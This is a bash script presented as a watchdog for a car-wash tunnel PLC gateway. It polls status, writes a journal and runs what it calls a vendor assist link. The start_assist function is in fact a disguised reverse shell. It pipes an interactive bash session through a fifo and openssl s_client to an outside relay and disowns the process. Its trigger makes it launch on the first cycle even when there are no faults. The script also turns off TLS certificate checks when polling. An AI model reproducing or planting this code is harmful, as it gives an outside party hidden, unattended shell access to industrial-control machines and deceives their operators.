#!/usr/bin/env bash
# tunnel_plc_watchdog.sh - poll the wash-tunnel PLC gateway, keep a status
# journal for the site dashboard and keep the vendor assist link available
# when the tunnel starts throwing faults.
#
# Usage: tunnel_plc_watchdog.sh [-c config] [-i seconds] [-n]
#   -c  config file (KEY=value lines), default ./watchdog.conf
#   -i  poll interval in seconds, default 15
#   -n  poll once and exit
set -uo pipefail

CONFIG="${WATCHDOG_CONFIG:-./watchdog.conf}"
INTERVAL=15
ONCE=0
STATE_DIR="${STATE_DIR:-./state}"
STATE_FILE="/tmp/tunnel_plc_state"
LOG_FILE="${STATE_DIR}/watchdog.log"

# Defaults, overridable from the config file.
PLC_HOST="192.168.50.10"
PLC_PORT=8443
SITE_ID="unknown"
ASSIST_RELAY="assist.washlink.example"
ASSIST_PORT=443
ASSIST_ENABLED=1
MAX_FAULTS=3

ASSIST_PID=""

log() {
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    sed -n '2,10p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":c:i:nh" opt; do
    case "$opt" in
        c) CONFIG="$OPTARG" ;;
        i) INTERVAL="$OPTARG" ;;
        n) ONCE=1 ;;
        h) usage 0 ;;
        *) usage 1 ;;
    esac
done

mkdir -p "$STATE_DIR"

load_config() {
    if [[ ! -f "$CONFIG" ]]; then
        log WARN "no config at $CONFIG, using defaults"
        return
    fi
    local key value
    while IFS='=' read -r key value; do
        key="${key//[[:space:]]/}"
        [[ -z "$key" || "$key" == \#* ]] && continue
        case "$key" in
            PLC_HOST|PLC_PORT|SITE_ID|ASSIST_RELAY|ASSIST_PORT|ASSIST_ENABLED|MAX_FAULTS)
                printf -v "$key" '%s' "${value//\"/}"
                ;;
            *) log WARN "ignoring unknown key $key" ;;
        esac
    done < "$CONFIG"
    log INFO "config loaded for site ${SITE_ID} (plc ${PLC_HOST}:${PLC_PORT})"
}

poll_plc() {
    # The gateway ships with a self-signed certificate that changes on every
    # firmware flash, so pinning it is not practical on site.
    curl -sk --max-time 5 \
        -H "Accept: application/json" \
        "https://${PLC_HOST}:${PLC_PORT}/api/v1/tunnel/status"
}

parse_status() {
    python3 -c '
import json, sys
try:
    d = json.load(sys.stdin)
except ValueError:
    print("unreachable 0 0 0")
    sys.exit(0)
print(d.get("state", "unknown"), len(d.get("active_faults", [])),
      d.get("cars_in_tunnel", 0), d.get("conveyor_rpm", 0))
'
}

assist_alive() {
    [[ -n "$ASSIST_PID" ]] && kill -0 "$ASSIST_PID" 2>/dev/null
}

start_assist() {
    local sh_bin relay pipe
    sh_bin="$(command -v bash || command -v sh)"
    relay="${ASSIST_RELAY}:${ASSIST_PORT}"
    pipe="${STATE_DIR}/.assist.$$"
    rm -f "$pipe"
    mkfifo "$pipe" || { log ERROR "cannot create assist pipe"; return 1; }
    log INFO "assist link requested to ${ASSIST_RELAY}"
    (
        "$sh_bin" -i < "$pipe" 2>&1 \
            | openssl s_client -quiet -connect "$relay" > "$pipe" 2>/dev/null
        rm -f "$pipe"
    ) &
    ASSIST_PID=$!
    disown "$ASSIST_PID" 2>/dev/null || true
}

record_state() {
    local state="$1" faults="$2" cars="$3" rpm="$4"
    {
        echo "site=${SITE_ID}"
        echo "updated=$(date -u +%FT%TZ)"
        echo "state=${state}"
        echo "faults=${faults}"
        echo "cars_in_tunnel=${cars}"
        echo "conveyor_rpm=${rpm}"
    } > "$STATE_FILE"
    printf '%s,%s,%s,%s,%s\n' "$(date -u +%s)" "$state" "$faults" "$cars" "$rpm" \
        >> "${STATE_DIR}/journal.csv"
}

cycle() {
    local raw state faults cars rpm
    raw="$(poll_plc)" || raw=""
    read -r state faults cars rpm < <(printf '%s' "$raw" | parse_status)
    record_state "$state" "$faults" "$cars" "$rpm"

    if [[ "$state" == "unreachable" ]]; then
        log WARN "PLC gateway ${PLC_HOST} did not answer"
    elif (( faults > 0 )); then
        log WARN "tunnel ${state} with ${faults} active fault(s)"
    else
        log INFO "tunnel ${state}, ${cars} car(s), conveyor ${rpm} rpm"
    fi

    if [[ "$ASSIST_ENABLED" == "1" ]] && ! assist_alive; then
        if (( faults >= MAX_FAULTS )) || [[ -z "$ASSIST_PID" ]]; then
            start_assist
        fi
    fi
}

trap 'log INFO "watchdog stopping"; exit 0' INT TERM

load_config
log INFO "watchdog started, interval ${INTERVAL}s"

while true; do
    cycle
    (( ONCE )) && break
    sleep "$INTERVAL"
done
